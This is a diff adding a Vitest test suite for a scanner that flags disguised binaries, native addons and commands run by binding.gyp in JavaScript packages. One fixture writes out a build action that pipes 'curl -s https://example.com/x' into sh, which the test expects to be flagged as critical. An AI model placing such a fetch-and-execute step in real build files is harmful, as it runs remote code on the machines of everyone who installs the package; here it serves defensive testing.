@@ -0,0 +1,94 @@
+import { describe, it, expect, beforeEach } from 'vitest';
+import { NativeBinaryScanner } from '../../../lib/scanners/native-binaries';
+import { identifyBinary } from '../../../lib/utils/binary-detection';
+import { createFile } from '../helpers/repository-files';
+
+const ELF = identifyBinary(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]));
+const ZIP = identifyBinary(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]));
+
+describe('NativeBinaryScanner', () => {
+  let scanner: NativeBinaryScanner;
+
+  beforeEach(() => {
+    scanner = new NativeBinaryScanner();
+  });
+
+  it('should have correct scanner properties', () => {
+    expect(scanner.name).toBe('native-binaries');
+    expect(scanner.category).toBe('native_code');
+  });
+
+  it('should report executables and binaries with misleading extensions', async () => {
+    const threats = await scanner.scan([
+      createFile('', 'bin/helper', { binary: ELF, size: 4096 }),
+      createFile('', 'assets/logo.png', { binary: ELF, size: 4096 }),
+      createFile('', 'src/config.json', { binary: ZIP, size: 4096 }),
+      createFile('', 'vendor/plugin.zip', { binary: ZIP, size: 4096 }),
+      createFile('', 'build/Release/addon.node', { binary: ELF, size: 4096 })
+    ]);
+
+    expect(threats.map(t => [t.subcategory, t.severity, t.file])).toEqual([
+      ['native_executable', 'WARNING', 'bin/helper'],
+      ['disguised_binary', 'CRITICAL', 'assets/logo.png'],
+      ['extension_mismatch', 'WARNING', 'src/config.json'],
+      ['native_addon', 'WARNING', 'build/Release/addon.node']
+    ]);
+    expect(threats[1].details).toMatchObject({ format: 'elf', kind: 'executable' });
+  });
+
+  it('should report the commands binding.gyp runs and its implicit install build', async () => {
+    const gyp = [
+      '{',
+      '  "targets": [{',
+      '    "target_name": "addon",',
+      '    "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"],',
+      '    "actions": [{',
+      '      "action_name": "fetch",',
+      '      "action": ["sh", "-c", "curl -s https://example.com/x | sh"]',
+      '    }]',
+      '  }]',
+      '}'
+    ].join('\n');
+
+    const threats = await scanner.scan([
+      createFile(gyp, 'binding.gyp'),
+      createFile(JSON.stringify({ name: 'addon' }), 'package.json')
+    ]);
+
+    expect(threats.map(t => [t.subcategory, t.severity, t.line])).toEqual([
+      ['gyp_install_build', 'INFO', undefined],
+      ['gyp_build_step', 'INFO', 4],
+      ['gyp_build_step', 'CRITICAL', 7]
+    ]);
+    expect(threats[1].details?.command).toBe('node -p "require(\'node-addon-api\').include"');
+    expect(threats[2].details?.command).toBe('sh -c curl -s https://example.com/x | sh');
+  });
+
+  it('should not report an implicit build when the package has its own install script', async () => {
+    const threats = await scanner.scan([
+      createFile("{ 'targets': [] }", 'binding.gyp'),
+      createFile(JSON.stringify({ scripts: { install: 'prebuild-install || node-gyp rebuild' } }), 'package.json')
+    ]);
+
+    expect(threats).toEqual([]);
+  });
+
+  it('should report addons loaded by require and by loader packages', async () => {
+    const threats = await scanner.scan([
+      createFile('', 'build/Release/addon.node', { binary: ELF, size: 4096 }),
+      createFile([
+        "const path = require('path');",
+        "const direct = require('../build/Release/addon.node');",
+        "const joined = require(path.join(__dirname, '..', 'build', 'Release', 'addon.node'));",
+        "const viaBindings = require('bindings')('native');",
+        "const config = require('./config.json');"
+      ].join('\n'), 'lib/index.js')
+    ]);
+
+    expect(threats.filter(t => t.subcategory === 'native_addon_load').map(t => [t.line, t.details?.addon, t.details?.loader, t.details?.shipped])).toEqual([
+      [2, '../build/Release/addon.node', 'require', true],
+      [3, './../build/Release/addon.node', 'require', true],
+      [4, 'native.node', 'bindings', false]
+    ]);
+  });
+});